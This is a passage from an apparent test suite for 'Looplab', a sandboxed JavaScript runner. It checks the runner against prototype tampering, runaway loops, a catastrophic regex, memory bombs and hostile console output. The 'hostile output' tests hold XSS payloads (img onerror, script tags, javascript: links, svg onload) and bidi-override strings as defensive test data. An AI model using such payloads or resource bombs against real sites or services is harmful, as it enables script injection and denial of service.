setTimeout(() => console.log('NOT REACHED'), 1)
throw e`,
    expect: { status: /^The program crashed at line 8: /, console: /^Uncaught /, consoleAbsent: /NOT REACHED/ },
  },
  {
    name: 'an uncaught plain object whose toString throws is reported as Node prints it',
    group: 'tamper',
    program: `throw { toString() { throw new Error('toString ran') }, [Symbol.toPrimitive]() { throw new Error('toPrimitive ran') } }`,
    expect: { status: /^The program crashed at line 1/, console: /Uncaught \{/ },
  },
  {
    name: 'replacing the global Promise does not break async functions and await',
    group: 'tamper',
    program: `const RealPromise = Promise
;(globalThis as any).Promise = function Fake() { throw new Error('fake Promise') }
async function f() { await null; return 'async still works' }
const result = await f()
;(globalThis as any).Promise = RealPromise
setTimeout(() => console.log('timer'), 1)
console.log(result)`,
    expect: { status: FINISHED, console: /^async still works\ntimer$/ },
  },
  {
    name: 'a throwing Promise[Symbol.species] breaks only the program’s own then calls',
    group: 'tamper',
    program: `Object.defineProperty(Promise, Symbol.species, { configurable: true, get() { throw new Error('species poisoned') } })
async function f() { await null; return 1 }
console.log('await ok', await f(), await Promise.resolve(2))
try { Promise.resolve(3).then(() => {}) } catch (e) { console.log('then:', (e as Error).message) }`,
    expect: { status: FINISHED, console: /^await ok 1 2\nthen: species poisoned$/ },
  },
  {
    name: 'setters on Object.prototype for protocol-like names never fire from the runtime',
    group: 'tamper',
    program: `let fired = 0
for (const name of ['type', 'runId', 'batch', 'outcome', 'value', 'done', 'id', 'seq', 'kind', 'callback', 'resolve', 'reject', 'promise', 'next', 'bytes', 'strings', 'text', 'level']) {
  const descriptor = { __proto__: null, configurable: true, get() { return undefined }, set(_v: unknown) { fired++; throw new Error('setter fired') } }
  Object.defineProperty(Object.prototype, name, descriptor as PropertyDescriptor)
}
setTimeout(() => console.log('timer'), 1)
await Promise.all([1, 2].map(async (n) => n))
await new Promise((r) => setTimeout(r, 2))
console.log('setters fired:', fired)`,
    expect: { status: FINISHED, console: /^timer\nsetters fired: 0$/ },
  },
  {
    name: 'descriptor-shaped properties on Object.prototype (get, set, value, writable) do not break the runtime',
    group: 'tamper',
    program: `const P = Object.prototype as any
P.get = undefined
P.set = undefined
P.writable = false
P.enumerable = true
setTimeout(() => console.log('timer'), 1)
const results = await Promise.all([1, 2].map(async (n) => { await null; return n }))
console.log('after await', results, { own: 1 })
await new Promise((r) => setTimeout(r, 2))
for (const name of ['get', 'set', 'writable', 'enumerable']) delete P[name]
console.log('done')`,
    expect: { status: FINISHED, console: /^after await \[ 1, 2 \] \{ own: 1 \}\ntimer\ndone$/ },
  },
  {
    name: 'index setters on Array.prototype neither capture the runtime’s records nor break the trace',
    group: 'tamper',
    host: 'browser',
    program: `let captured = 0
for (let i = 0; i < 8; i++) {
  Object.defineProperty(Array.prototype, i, { configurable: true, get() { return undefined }, set(_v) { captured++ } })
}
setTimeout(() => console.log('timer'), 5)
requestAnimationFrame(() => console.log('frame'))
await Promise.all([1, 2, 3].map(async (n) => n))
await new Promise((r) => setTimeout(r, 50))
for (let i = 0; i < 8; i++) delete (Array.prototype as any)[i]
console.log('captured', captured)`,
    expect: { status: FINISHED, console: /^timer\nframe\ncaptured 0$/ },
  },
  {
    name: 'a Symbol.species hook on Uint8Array never sees the trace buffer',
    group: 'tamper',
    program: `let calls = 0
Object.defineProperty(Uint8Array.prototype, 'constructor', {
  configurable: true,
  writable: true,
  value: {
    [Symbol.species]: function (buffer: ArrayBuffer, offset: number, length: number) {
      calls++
      return new Uint8Array(length)
    },
  },
})
setTimeout(() => console.log('timer'), 1)
await new Promise((r) => setTimeout(r, 2))
console.log('species calls', calls)`,
    expect: { status: FINISHED, console: /^timer\nspecies calls 0$/ },
  },
  {
    name: 'a Symbol.species hook on Array never sees the runtime’s arrays',
    group: 'tamper',
    program: `let calls = 0
Object.defineProperty(Array.prototype, 'constructor', {
  configurable: true,
  writable: true,
  value: {
    [Symbol.species]: function () {
      calls++
      return { hijacked: true }
    },
  },
})
setTimeout(() => console.log('timer'), 1)
await new Promise((r) => setTimeout(r, 2))
console.log('species calls', calls)`,
    expect: { status: FINISHED, console: /^timer\nspecies calls 0$/ },
  },
  {
    name: "a program redefining the typed arrays' buffer getter keeps a correct trace",
    group: 'tamper',
    program: `Object.defineProperty(Object.getPrototypeOf(Uint8Array.prototype), 'buffer', { configurable: true, get() { throw new Error('buffer poisoned') } })
setTimeout(() => console.log('timer ran'), 5)
console.log('start')`,
    expect: { status: FINISHED, console: /^start\ntimer ran$/ },
  },
  {
    name: 'a program poisoning Math.min and Math.max keeps a live run paced and stoppable',
    group: 'tamper',
    program: `Math.min = Math.max = () => { throw new Error('Math poisoned') }
setInterval(() => console.log('tick'), 1000)`,
    stop: 'when-live',
    expect: { status: STOPPED, console: /tick\ntick/ },
  },
  {
    name: "a program poisoning Math.round, Math.ceil, Math.floor and Math.imul keeps timers and Math.random as V8's",
    group: 'tamper',
    host: 'browser',
    program: `const r1 = Math.random()
Math.round = Math.ceil = Math.floor = Math.imul = () => { throw new Error('Math poisoned') }
const r2 = Math.random()
setTimeout(() => console.log('timer'), 10)
requestAnimationFrame(() => console.log('frame'))
console.log('randoms are numbers:', typeof r1 === 'number' && typeof r2 === 'number' && r1 !== r2)`,
    expect: { status: FINISHED, console: /^randoms are numbers: true\ntimer\nframe$/ },
  },
  {
    name: 'freezing every built-in prototype and the global object does not break the runtime',
    group: 'tamper',
    program: `for (const C of [Object, Array, Function, Promise, Error, TypeError, Map, Set, WeakMap, String, Number, Boolean, Symbol, RegExp, Date] as any[]) {
  Object.freeze(C.prototype)
  Object.freeze(C)
}
Object.freeze(Object.getPrototypeOf([][Symbol.iterator]()))
Object.freeze(console)
Object.freeze(globalThis)
setTimeout(() => console.log('timer'), 1)
queueMicrotask(() => console.log('microtask'))
await null
console.log('after await', [1, 2], new Map([[1, 2]]))
throw new TypeError('reported even so')`,
    expect: {
      status: CRASHED_AT(12, 'TypeError: reported even so'),
      console: /^microtask\nafter await \[ 1, 2 \] Map\(1\) \{ 1 => 2 \}\nUncaught TypeError: reported even so/,
      consoleAbsent: /^timer$/m,
    },
  },

  // ───────────────────────────── faults ─────────────────────────────
  {
    name: 'an infinite synchronous loop is stopped by the step budget',
    group: 'fault',
    program: `console.log('before the loop')
while (true) {}`,
    expect: { status: STEPS_BUDGET, console: /before the loop/ },
  },
  {
    name: 'an infinite loop whose catch tries to swallow the stop is stopped anyway',
    group: 'fault',
    program: `let caught = 0
while (true) {
  try {
    while (true) {}
  } catch (e) {
    caught++
    console.log('SWALLOWED', e)
  }
}`,
    expect: { status: STEPS_BUDGET, consoleAbsent: /SWALLOWED/ },
  },
  {
    name: 'an infinite loop whose finally continues cannot swallow the stop',
    group: 'fault',
    program: `let rounds = 0
for (;;) {
  try {
    for (;;) {}
  } finally {
    rounds++
    if (rounds < 1e9) continue
  }
}`,
    expect: { status: STEPS_BUDGET },
  },
  {
    name: 'an infinite microtask loop ends with the message that the microtask queue never emptied',
    group: 'fault',
    program: `let n = 0
const again = () => { n++; queueMicrotask(again) }
queueMicrotask(again)
setTimeout(() => console.log('NEVER'), 0)`,
    timeoutMs: 45_000,
    expect: {
      status:
        /^The microtask queue never emptied — each callback queued another one \([\d,]+ in a row\), so timers, I\/O and rendering could never run\. Looplab stopped the program\.$/,
      consoleAbsent: /NEVER/,
    },
  },
  {
    name: 'an endless setInterval goes live and the Stop button ends it',
    group: 'fault',
    program: `let n = 0
setInterval(() => console.log('tick', ++n), 1000)`,
    stop: 'when-live',
    expect: { status: STOPPED, console: /tick 10/ },
  },
  {
    name: 'an endless recursive setTimeout goes live and the Stop button ends it',
    group: 'fault',
    program: `let n = 0
function again() {
  n++
  setTimeout(again, 0)
}
again()`,
    stop: 'when-live',
    expect: { status: STOPPED },
  },
  {
    name: 'an endless requestAnimationFrame loop goes live and the Stop button ends it',
    group: 'fault',
    host: 'browser',
    program: `let frames = 0
function frame() {
  frames++
  if (frames % 100 === 0) console.log('frames', frames)
  requestAnimationFrame(frame)
}
requestAnimationFrame(frame)`,
    stop: 'when-live',
    expect: { status: STOPPED, console: /frames \d+00/ },
  },
  {
    name: 'pressing Run five times in a row leaves one live run, and Stop ends it',
    group: 'fault',
    program: `let n = 0
setInterval(() => console.log('tick', ++n), 1000)`,
    runClicks: 5,
    stop: 'when-live',
    expect: { status: STOPPED, console: /^tick 1\n/ },
  },
  {
    name: 'a live program is replaced by the next run without pressing Stop',
    group: 'fault',
    program: `setInterval(() => console.log('OLD RUN TICK'), 1000)`,
    stop: 'leave-running',
    expect: { status: /^Running live: virtual time now follows real time\. Press Stop to end the program\.$/ },
  },
  {
    name: 'Stop on a sandbox stuck in a built-in removes it at once',
    group: 'fault',
    program: `console.log('start')
console.log(/(a+)+$/.test('a'.repeat(40) + 'b'))`,
    stop: { afterMs: 800 },
    expect: { status: /^Stopped: the program did not answer, so Looplab removed its sandbox\.$/ },
  },
  {
    name: 'a catastrophic regular expression is ended by the watchdog',
    group: 'fault',
    program: `console.log('start')
console.log(/(a+)+$/.test('a'.repeat(40) + 'b'))`,
    expect: { status: WATCHDOG },
  },
  {
    name: 'unbounded recursion is reported as a RangeError with its line',
    group: 'fault',
    program: `function down(n: number): number {
  return down(n + 1) + 1
}
console.log(down(0))`,
    expect: {
      status: CRASHED_AT(2, 'RangeError: Maximum call stack size exceeded'),
      console: /^Uncaught RangeError: Maximum call stack size exceeded\n\s+at down \(main\.ts:2:10\)/,
    },
  },
  {
    name: 'unbounded recursion inside a microtask is reported as a RangeError',
    group: 'fault',
    program: `queueMicrotask(function deeper() {
  const again = (): number => again() + 1
  again()
})`,
    expect: { status: CRASHED_AT(2, 'RangeError: Maximum call stack size exceeded') },
  },
  {
    name: 'a memory bomb is ended by the watchdog or a budget and the page survives',
    group: 'fault',
    program: `const hoard: number[][] = []
while (true) hoard.push(new Array(1e6).fill(1))`,
    timeoutMs: 20_000,
    expect: { status: /^The program stopped responding, so Looplab ended it\.|so Looplab stopped it\.|Looplab stopped the program\./ },
  },
  {
    name: 'a doubling string is stopped by V8’s string length limit',
    group: 'fault',
    program: `let s = 'x'
while (true) s += s`,
    expect: { status: CRASHED_AT(2, 'RangeError: Invalid string length') },
  },
  {
    name: "a huge string ('x'.repeat(2 ** 28)) is fine as long as it is not printed",
    group: 'fault',
    program: `const s = 'x'.repeat(2 ** 28)
console.log(s.length)`,
    expect: { status: FINISHED, console: /^268435456$/ },
  },
  {
    name: "'x'.repeat(2 ** 29) is a RangeError, as in V8",
    group: 'fault',
    program: `const s = 'x'.repeat(2 ** 29)
console.log(s.length)`,
    expect: { status: CRASHED_AT(1, 'RangeError: Invalid string length') },
  },
  {
    name: 'throw null is reported as an uncaught null',
    group: 'fault',
    program: `console.log('before')
throw null`,
    expect: { status: /^The program crashed at line 2: null \(exit code 1, after/, console: /^before\nUncaught null$/ },
  },
  {
    name: 'throw undefined is reported as an uncaught undefined',
    group: 'fault',
    program: `setTimeout(() => { throw undefined }, 1)`,
    expect: { status: /^The program crashed at line 1: undefined \(exit code 1, after/, console: /^Uncaught undefined$/ },
  },
  {
    name: 'an unhandled rejection ends a node program with exit code 1',
    group: 'fault',
    program: `Promise.reject(new Error('nope'))
setTimeout(() => console.log('NOT REACHED'), 10)`,
    expect: {
      status: /^Node ended the program: a promise was rejected and nothing handled it — Error: nope \(exit code 1, after/,
      console: /Uncaught \(in promise\) Error: nope/,
      consoleAbsent: /NOT REACHED/,
    },
  },
  {
    name: 'an unhandled rejection in the browser host is reported and the program continues',
    group: 'fault',
    host: 'browser',
    program: `Promise.reject(new Error('nope'))
setTimeout(() => console.log('later'), 10)`,
    expect: { status: FINISHED, console: /^Uncaught \(in promise\) Error: nope\n\s+at main\.ts:1:16\nlater$/ },
  },
  {
    name: 'a syntax error gives its line and column and the program is not run',
    group: 'fault',
    program: `console.log('SHOULD NOT RUN')
const x = ;`,
    expect: { status: /^Line 2, column 11: Expression expected\. The program was not run\.$/, consoleAbsent: /SHOULD NOT RUN/ },
  },
  {
    name: 'an unclosed call gives its line and column and the program is not run',
    group: 'fault',
    program: `console.log('SHOULD NOT RUN'
console.log('nor this')`,
    expect: { status: /^Line 2, column 1: ',' expected\./, consoleAbsent: /SHOULD NOT RUN|nor this/ },
  },
  {
    name: 'an unterminated string gives its line and column and the program is not run',
    group: 'fault',
    program: `console.log('SHOULD NOT RUN')
const s = 'unterminated`,
    expect: { status: /^Line 2, column 24: Unterminated string literal\. The program was not run\.$/, consoleAbsent: /SHOULD NOT RUN/ },
  },
  {
    name: 'a strict-mode grammar error (let let) gives its line and column and the program is not run',
    group: 'fault',
    program: `console.log('SHOULD NOT RUN')
let let = 5`,
    expect: { status: /^Line 2, column 5: .*The program was not run\.$/, consoleAbsent: /SHOULD NOT RUN/ },
  },
  {
    name: 'a type error alone does not stop the run',
    group: 'fault',
    program: `const n: number = 'not a number'
console.log('ran anyway', n)`,
    expect: { status: FINISHED, console: /^ran anyway not a number$/ },
  },
  {
    name: 'native asynchronous APIs are absent, so no callback can run outside the modeled event loop',
    group: 'fault',
    program: `const names = ['Blob', 'FileReader', 'CompressionStream', 'ReadableStream', 'createImageBitmap', 'scheduler', 'WebAssembly']
console.log(names.map((name) => name + ':' + typeof (globalThis as any)[name]).join(' '))
console.log('subtle:' + typeof (globalThis as any).crypto?.subtle, 'waitAsync:' + typeof (Atomics as any).waitAsync)`,
    expect: {
      status: FINISHED,
      console:
        /^Blob:undefined FileReader:undefined CompressionStream:undefined ReadableStream:undefined createImageBitmap:undefined scheduler:undefined WebAssembly:undefined\nsubtle:undefined waitAsync:undefined$/,
    },
  },
  {
    name: 'using a native asynchronous API fails at its line with a clear error',
    group: 'fault',
    program: `console.log('before')
new Blob(['x']).text().then(() => {
  while (true) {}
})`,
    expect: {
      status: /^The program crashed at line 2: TypeError: Blob is not a constructor/,
      console: /^before\nUncaught TypeError: Blob is not a constructor\n\s+at main\.ts:2:1/,
    },
  },

  // ───────────────────────────── hostile output ─────────────────────────────
  {
    name: 'an HTML payload printed with console.log appears as literal text',
    group: 'output',
    program: `console.log('<img src=x onerror="window.__pwned=1">')
console.log('<script>window.__pwned=2</script><b>bold?</b><a href="javascript:alert(1)">link</a>')
console.log('%c<svg onload="window.__pwned=3">', 'color: red')`,
    expect: {
      status: FINISHED,
      console:
        /^<img src=x onerror="window.__pwned=1">\n<script>window.__pwned=2<\/script><b>bold\?<\/b><a href="javascript:alert\(1\)">link<\/a>\n<svg onload="window.__pwned=3">$/,
    },
    after: async (page) => {
      await expect(page.getByRole('log').getByText('<img src=x onerror="window.__pwned=1">')).toBeVisible()
      await noInjectedMarkup(page)
    },
  },
  {
    name: "an HTML payload in an uncaught error's message appears as literal text in the status line",
    group: 'output',
    program: `throw new Error('<img src=x onerror="window.__pwned=4">')`,
    expect: {
      status: /^The program crashed at line 1: Error: <img src=x onerror="window.__pwned=4"> \(exit code 1/,
      console: /^Uncaught Error: <img src=x onerror="window.__pwned=4">/,
    },
    after: noInjectedMarkup,
  },
  {
    name: 'control characters, escape sequences and bidi overrides are printed as inert text',
    group: 'output',
    program: `console.log('nul[\\u0000] bell[\\u0007] esc[\\u001b[31m]red')
console.log('bidi[\\u202Eevil\\u202C] zero-width[\\u200B]')
console.log('carriage\\rreturn')`,
    expect: {
      status: FINISHED,
      console: /^nul\[[^]*\] bell\[[^]*\] esc\[[^]*\[31m\]red\nbidi\[\u202eevil\u202c\] zero-width\[\u200b\]\ncarriage[^]*return$/,
    },
    after: noInjectedMarkup,
  },
  {
    name: 'an uncaught error with a million-character message is reported without freezing the page',
    group: 'output',
    program: `throw new Error('m'.repeat(1_000_000))`,
    expect: { status: /^The program crashed at line 1: Error: m{200}m*… \(exit code 1/, console: /^Uncaught Error: m{1000}/ },
  },
  {
    name: 'a one-million-character line is shown without freezing the page',
    group: 'output',
    program: `console.log('x'.repeat(1_000_000))
console.log('end of the long line')`,
    expect: { status: FINISHED, console: /end of the long line$/ },
  },
  {
    name: 'a three-million-character line is shown (or cut with a note) and the lines around it are kept',
    group: 'output',
    program: `console.log('before the long line')
console.log('z'.repeat(3_000_000))
console.log('after the long line')`,
    expect: { status: /^Finished in .*, 3 lines of output\.$/, console: /^before the long line\nz{1000}[^]*\nafter the long line$/ },
  },
  {
    name: 'printing more than 8,000,000 characters is stopped by the output budget',
    group: 'output',
    program: `const line = 'y'.repeat(100_000)
for (let i = 0; i < 100; i++) console.log(line)`,
    expect: { status: /^The program printed more than 8,000,000 characters, so Looplab stopped it\.$/ },
  },
  {
    name: 'printing a 268-million-character string is stopped by the output budget without freezing the page',
    group: 'output',
    program: `console.log('before')
console.log('x'.repeat(2 ** 28))`,
    expect: { status: /^The program printed more than 8,000,000 characters, so Looplab stopped it\.$/, console: /^before$/ },
  },
  {
    name: 'circular and deeply nested values print as Node prints them',
    group: 'output',
    program: `const a: any = { name: 'a' }
a.self = a
console.log(a)
let deep: any = []
for (let i = 0; i < 10_000; i++) deep = [deep]
console.log(deep)
console.log(new Array(1e6).fill(7).length, [new Array(1e6).fill(7)].flat().slice(-1))`,
    expect: {
      status: FINISHED,
      console: /^<ref \*1> \{ name: 'a', self: \[Circular \*1\] \}\n\[ \[ \[ \[Array\] \] \] \]\n1000000 \[ 7 \]$/,
    },
  },
  {
    name: 'two hundred thousand console lines finish without freezing the page',
    group: 'output',
    program: `for (let i = 1; i <= 200_000; i++) console.log('line', i)`,
    expect: { status: /^Finished in .*, 200,000 lines of output\.$/ },
  },
  {
    name: 'after two hundred thousand console lines the console shows the last one',
    group: 'output',
    program: `for (let i = 1; i <= 200_000; i++) console.log('line', i)`,
    expect: { status: /^Finished in .*, 200,000 lines of output\.$/, console: /line 200000$/ },
  },
  {
    name: 'a million console lines keep the page responsive and the console shows the end',
    group: 'output',
    program: `for (let i = 1; i <= 1_000_000; i++) console.log('line', i)`,
    timeoutMs: 60_000,
    expect: { status: /^The program produced more than 2,000,000 trace events, so Looplab stopped it|^Finished in / },
    after: async (page) => {
      const rows = page.getByRole('log').locator('.console-line')
      const last = (await rows.last().innerText()).trim()
      const printed = Number(/^line (\d+)$/.exec(last)?.[1] ?? NaN)
      expect(printed, `the console's last row is "${last}", not the end of the output`).toBeGreaterThan(200_000)
      await page.locator('.console-scroll').evaluate((element) => {
        element.scrollTop = 100_000 * 20 - 40
      })
      await expect(page.getByText(/lines not kept: the console keeps the first 100,000 and the last 100,000/)).toBeVisible()
    },
  },
]
